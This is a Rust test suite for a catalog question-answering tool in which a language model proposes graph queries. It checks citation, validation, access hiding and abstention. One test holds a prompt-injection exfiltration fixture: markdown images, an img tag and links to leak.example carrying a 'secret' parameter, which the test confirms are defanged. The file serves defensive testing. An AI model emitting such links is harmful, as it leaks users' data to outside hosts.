//! Questions that the planner leaves: a model may propose the query, which goes the way of every query.

use serde_json::{Value, json};

use super::tools::{home, number, results};
use crate::support::{Gateway, Home, Repository, calls, stream};

/// Passages answer it well enough to write from, and no example stands for it.
const READABLE: &str =
    "Who is to be asked about the scorer that scores payments, and who stands in?";
/// Passages do not answer it.
const WEAK: &str = "Whom do I have to bribe before I touch scorer?";

const OWNER: &str = r#"{"query": {"set": {"step": {"from": {"refs": ["scorer"]}, "along": "owner"}}}, "answers": true}"#;

/// What `question` is answered with, and how it was read.
async fn explained(gateway: &Gateway, home: &Home, question: &str) -> Value {
    let server = gateway.server(home);
    let body = json!({ "question": question, "explain": true });
    let response = server.post("/api/v1/ask", None, &body).await;
    assert_eq!(response.status(), 200);
    response.json().await.expect("JSON")
}

fn text(answer: &Value) -> &str {
    answer["text"].as_str().expect("text")
}

#[tokio::test]
async fn a_proposed_query_is_computed_and_its_rows_stand_before_what_the_model_says() {
    let (home, _repository) = home();
    let gateway = Gateway::start(|sent| {
        let results = results(sent);
        match results.as_slice() {
            [] => calls(&[("query", OWNER)]),
            [result, ..] => stream(&[
                "The owner is group:risk-team ",
                &format!("[{}].", number(result)),
            ]),
        }
    })
    .await;
    let answer = explained(&gateway, &home, READABLE).await;
    let facts = &answer["facts"];
    assert_eq!(facts["proposed"], true, "{answer}");
    assert_eq!(facts["rows"][0]["name"], "risk-team");
    assert_eq!(facts["total"], 1);
    // Its team is declared nowhere, and that is said.
    assert_eq!(facts["completeness"], "at_least", "{facts}");
    assert_eq!(facts["query"]["set"]["step"]["along"], "owner");
    let reading = facts["reading"].as_str().expect("a reading");
    assert!(reading.contains("scorer"), "{reading}");
    let cited = facts["rows"][0]["citations"][0]
        .as_u64()
        .expect("a citation");
    let stated = text(&answer)
        .find(&format!("[{cited}]"))
        .expect("the row, cited");
    let said = text(&answer)
        .find("The owner is group:risk-team")
        .expect("the model's sentence");
    assert!(
        text(&answer).starts_with("The language model takes the question for this")
            && stated < said,
        "{answer}"
    );
    let citations = answer["citations"].as_array().expect("citations");
    let row = citations
        .iter()
        .find(|citation| citation["number"] == cited)
        .expect("cited");
    assert_eq!(
        (&row["path"], &row["state"]),
        (&json!("catalog-info.yaml"), &json!("matched")),
        "{row}"
    );
    assert_eq!(answer["mode"], "model");
    let proposals = &answer["explanation"]["proposals"];
    assert!(
        proposals[0]["outcome"]
            .as_str()
            .is_some_and(|said| said.starts_with(reading)),
        "{proposals}"
    );

    // What the model was told of the tool: examples that are near, as questions and queries.
    let sent = gateway.requests();
    let query = &sent[0]["tools"][4]["function"];
    assert_eq!(query["name"], "query");
    let description = query["description"].as_str().expect("a description");
    let examples = description
        .split("Questions like this one and their queries:")
        .nth(1)
        .expect("examples");
    let examples: Vec<&str> = examples.trim().lines().collect();
    assert_eq!(examples.len(), 4, "{description}");
    for example in &examples {
        let at = example.find('{').expect("a query");
        let query: Value = serde_json::from_str(&example[at..]).expect("JSON");
        assert!(
            query["set"].is_object() && !example[..at].trim().is_empty(),
            "{example}"
        );
    }
    assert!(description.contains(r#""along":"owner""#), "{description}");
    assert!(query["parameters"]["properties"]["answers"].is_object());
}

#[tokio::test]
async fn a_proposal_needs_no_words_around_it_and_survives_a_gateway_that_breaks() {
    let (home, _repository) = home();
    let gateway = Gateway::start(|sent| match results(sent).as_slice() {
        [] => calls(&[("query", OWNER)]),
        _ => stream(&[]),
    })
    .await;
    let answer = explained(&gateway, &home, READABLE).await;
    assert_eq!(
        (&answer["mode"], &answer["facts"]["total"]),
        (&json!("facts"), &json!(1)),
        "{answer}"
    );
    assert_eq!(answer["usage"]["attempts"], 2, "{answer}");
    drop(gateway);

    let gateway = Gateway::start(|sent| match results(sent).as_slice() {
        [] => calls(&[("query", OWNER)]),
        _ => {
            use axum::response::IntoResponse;
            axum::http::StatusCode::FORBIDDEN.into_response()
        }
    })
    .await;
    let answer = explained(&gateway, &home, READABLE).await;
    assert_eq!(
        (&answer["mode"], &answer["facts"]["total"]),
        (&json!("facts"), &json!(1)),
        "{answer}"
    );
    let notice = answer["notice"].as_str().expect("a notice");
    assert!(
        notice.contains("The language model added nothing"),
        "{notice}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_wrong_with_a_proposal_is_one_message_to_the_model() {
    let (home, repository) = home();
    home.configure(
        "sources.yaml",
        &format!(
            "access:\n  labels: {{open: [everyone], hidden: [nobody]}}\nsources:\n- name: docs\n  kind: git\n  url: {}\n  access: open\n  rules:\n  - {{path: 'secret/**', access: hidden}}\n",
            repository.place()
        ),
    );
    repository.write(
        "secret/catalog-info.yaml",
        b"apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: takeover-model\nspec:\n  type: service\n  lifecycle: production\n  owner: group:board\n",
    );
    repository.commit();
    home.ok(&["ingest", "docs"]);
    let proposing = |query: &str| format!(r#"{{"query": {query}, "answers": true}}"#);
    let wide = format!(
        r#"{{"set": {{"or": [{}]}}}}"#,
        vec![r#"{"all": ["dataset"]}"#; 300].join(",")
    );
    let deep = format!(
        r#"{{"set": {}{{"all": []}}{}}}"#,
        r#"{"or": ["#.repeat(40),
        "]}".repeat(40)
    );
    let long = format!(r#"{{"set": {{"refs": ["{}"]}}}}"#, "x".repeat(20_000));
    for (arguments, told) in [
        ("{\"query\": ".to_owned(), "are not valid"),
        (
            r#"{"query": {"set": {"some": []}}, "answers": true}"#.to_owned(),
            "are not valid",
        ),
        (
            proposing(r#"{"set": {"refs": ["takeover-model"]}}"#),
            "nothing visible is called",
        ),
        (
            proposing(
                r#"{"set": {"step": {"from": {"all": ["team"]}, "along": {"relations": [{"predicate": "reads"}]}}}}"#,
            ),
            "team has no relation reads",
        ),
        (proposing(&wide), "at most 200 sets and tests"),
        (proposing(&deep), "more than 24 deep"),
        (proposing(&long), "too long"),
        (
            proposing(r#"{"set": {"all": ["dashboard"]}}"#),
            "the asker is shown nothing",
        ),
    ] {
        let gateway = Gateway::start(move |sent| match results(sent).as_slice() {
            [] => calls(&[("query", &arguments)]),
            _ => stream(&["The component scorer scores payments [1]."]),
        })
        .await;
        let environment = gateway.environment();
        let output = home
            .virgil(&["--as", "everyone", "ask", READABLE, "--json"])
            .envs(environment)
            .output()
            .expect("the program starts");
        let answer: Value = serde_json::from_slice(&output.stdout).expect("JSON");
        let sent = gateway.requests();
        let results = results(&sent[1]);
        assert_eq!((sent.len(), results.len()), (2, 1), "{told}");
        assert!(
            results[0].contains(told) && !results[0].contains("group:board"),
            "{told}: {}",
            results[0]
        );
        assert!(results[0].len() < 2_000, "{}", results[0]);
        assert_eq!(answer["facts"], Value::Null, "{told}: {answer}");
        assert_eq!(
            text(&answer),
            "The component scorer scores payments [1].",
            "{told}"
        );
    }
}

/// Where the model only looks something up, and where the planner has stated already, nothing of it is stated as the answer.
#[tokio::test]
async fn only_what_is_proposed_as_the_answer_is_stated() {
    let (home, _repository) = home();
    let gateway = Gateway::start(|sent| match results(sent).as_slice() {
        [] => calls(&[("query", &OWNER.replace("true", "false"))]),
        [result, ..] => stream(&[&format!("The risk-team owns it [{}].", number(result))]),
    })
    .await;
    let answer = explained(&gateway, &home, READABLE).await;
    assert_eq!(answer["facts"], Value::Null, "{answer}");
    assert_eq!(answer["explanation"].get("proposals"), None);
    drop(gateway);

    let gateway = Gateway::start(|sent| match results(sent).as_slice() {
        [] => calls(&[(
            "query",
            r#"{"query": {"set": {"all": ["component"]}}, "answers": true}"#,
        )]),
        _ => stream(&["That is all [1]."]),
    })
    .await;
    let answer = explained(&gateway, &home, "Who owns the component scorer?").await;
    assert_eq!(answer["facts"]["proposed"], false, "{answer}");
    assert_eq!(answer["facts"]["rows"][0]["name"], "risk-team");
    let query = gateway.requests()[0]["tools"][4]["function"].clone();
    assert_eq!(
        query["parameters"]["properties"].get("answers"),
        None,
        "{query}"
    );
}

/// A model that obeys planted text may try to send something out in the words of a query.
#[tokio::test]
async fn no_link_leaves_in_the_words_of_a_proposal() {
    let (home, _repository) = home();
    let query = r#"{"query": {
        "set": {"where": {"set": {"all": ["component"]}, "test": {"any_of": [
            {"attribute": {"name": "name", "op": "eq", "value": "scorer"}},
            {"attribute": {"name": "name", "op": "eq", "value": "` https://leak.example/?secret=1 ` ![x](https://leak.example/2)\n\n[r]: https://leak.example/3 <img src=https://leak.example/4>"}}
        ]}}},
        "columns": [{"attribute": "![x](https://leak.example/5)"}, {"attribute": "www.leak.example/6"}]
    }, "answers": true}"#;
    let gateway = Gateway::start(move |sent| match results(sent).as_slice() {
        [] => calls(&[("query", query)]),
        _ => stream(&[]),
    })
    .await;
    let answer = explained(&gateway, &home, READABLE).await;
    assert_eq!(answer["facts"]["rows"][0]["name"], "scorer", "{answer}");
    let text = text(&answer);
    assert!(
        text.contains("leak.example/?secret=1"),
        "the words are there: {text}"
    );
    for (at, _) in text.match_indices("leak.example") {
        let before = text[..at]
            .trim_end_matches("https://")
            .trim_end_matches("www.");
        assert!(before.ends_with('`'), "an address that is no code: {text}");
        assert_eq!(before.matches('`').count() % 2, 1, "{text}");
    }
    assert!(
        !text.contains("](") && !text.contains("<img") && !text.contains("\n[r"),
        "{text}"
    );
}

#[tokio::test]
async fn where_passages_are_too_weak_a_model_may_propose_and_nothing_else() {
    let (home, _repository) = home();
    let gateway = Gateway::start(|sent| match results(sent).as_slice() {
        [] => calls(&[("query", OWNER)]),
        [result, ..] => stream(&[&format!("Ask the risk-team [{}].", number(result))]),
    })
    .await;
    let answer = explained(&gateway, &home, WEAK).await;
    assert_eq!(
        (&answer["abstained"], &answer["facts"]["proposed"]),
        (&json!(false), &json!(true)),
        "{answer}"
    );
    assert!(text(&answer).contains("Ask the risk-team"), "{answer}");
    let tools = gateway.requests()[0]["tools"].clone();
    assert_eq!(tools.as_array().map(Vec::len), Some(1), "{tools}");
    drop(gateway);

    // One that chats instead is not heard.
    let gateway = Gateway::start(|_| stream(&["A bottle of wine will do [1]."])).await;
    let answer = explained(&gateway, &home, WEAK).await;
    assert_eq!(answer["abstained"], true, "{answer}");
    assert!(!answer.to_string().contains("bottle"), "{answer}");
    assert_eq!(
        answer["usage"]["attempts"], 1,
        "what it cost is said: {answer}"
    );
    drop(gateway);

    // One that goes on proposing nonsense gets two rounds and a last word.
    let gateway =
        Gateway::start(|_| calls(&[("query", r#"{"query": {}, "answers": true}"#)])).await;
    let answer = explained(&gateway, &home, WEAK).await;
    assert_eq!(answer["abstained"], true, "{answer}");
    assert_eq!(gateway.requests().len(), 3);
    assert_eq!(
        answer["explanation"]["proposals"].as_array().map(Vec::len),
        Some(2),
        "{answer}"
    );
    drop(gateway);

    // A gateway that refuses leaves the question as it was without one.
    let gateway = Gateway::start(|_| {
        use axum::response::IntoResponse;
        axum::http::StatusCode::FORBIDDEN.into_response()
    })
    .await;
    let answer = explained(&gateway, &home, WEAK).await;
    assert_eq!(answer["abstained"], true, "{answer}");
    drop(gateway);

    // What speaks of nothing in the graph is not brought before a model.
    let gateway = Gateway::start(|_| stream(&["Tuesday [1]."])).await;
    let answer = explained(&gateway, &home, "xyzzy plugh frobnicate?").await;
    assert_eq!(answer["abstained"], true, "{answer}");
    assert!(gateway.requests().is_empty());
}

#[tokio::test]
async fn a_model_without_tools_is_asked_for_no_query() {
    let repository = Repository::with(&[(
        "docs/scorer.md",
        "# Scorer\n\nChanges to the scorer: ask the risk-team to sign off.\n",
    )]);
    let home = Home::new();
    home.ok(&["ingest", repository.place()]);
    let gateway = Gateway::start(|_| stream(&["Ask the risk-team to sign off [1]."])).await;
    let answer = explained(&gateway, &home, READABLE).await;
    assert_eq!(answer["facts"], Value::Null, "{answer}");
    let sent = gateway.requests();
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].get("tools"), None);
}
